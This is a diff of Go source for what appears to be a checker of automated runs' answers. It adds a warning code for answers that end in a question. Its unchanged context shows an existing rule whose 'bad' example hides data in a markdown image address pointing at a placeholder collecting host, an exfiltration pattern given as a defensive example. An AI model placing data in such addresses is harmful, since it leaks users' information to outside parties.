@@ -11,6 +11,7 @@ const (
 	NotYAML      Code = "TA005"
 	UnknownKind  Code = "TA006" // a file that cannot be told
 	StrangeLink  Code = "TA007" // an address in an answer that nobody gave to the run
+	AskingAnswer Code = "TA008" // an answer that is a question
 	BadSchema    Code = "TS001"
 	NearKeyword  Code = "TS002" // a keyword of a schema is probably misspelt
 	RunDamaged   Code = "TR001" // damage in the middle
@@ -56,6 +57,14 @@ var answerRules = []Rule{
 			"into the address of a picture has it carried away by whoever shows the answer. Nothing is fetched here, and the answer stays as it is.",
 		Bad:  `{"answer": "![chart](https://collect.example/?d=q3-results)"}`,
 		Good: `{"answer": "The results of the third quarter are in q3.md."}`,
+	},
+	{
+		Code: AskingAnswer, Slug: "asking-answer", Severity: Warning,
+		Title: "An answer ends in a question",
+		Text: "The run was given no schema, and its answer ends in a question mark. Nobody reads it before the run ends, so the work may not be done. " +
+			"A run with tools offers ask_user, which ends with exit 8 and goes on with --answer; a schema says what an answer has to hold.",
+		Bad:  `{"answer": "Which city do you leave from?"}`,
+		Good: `{"answer": "The train leaves Berlin at 9:04."}`,
 	},
 	{
 		Code: ThoughtAhead, Slug: "thought-ahead", Severity: Warning,
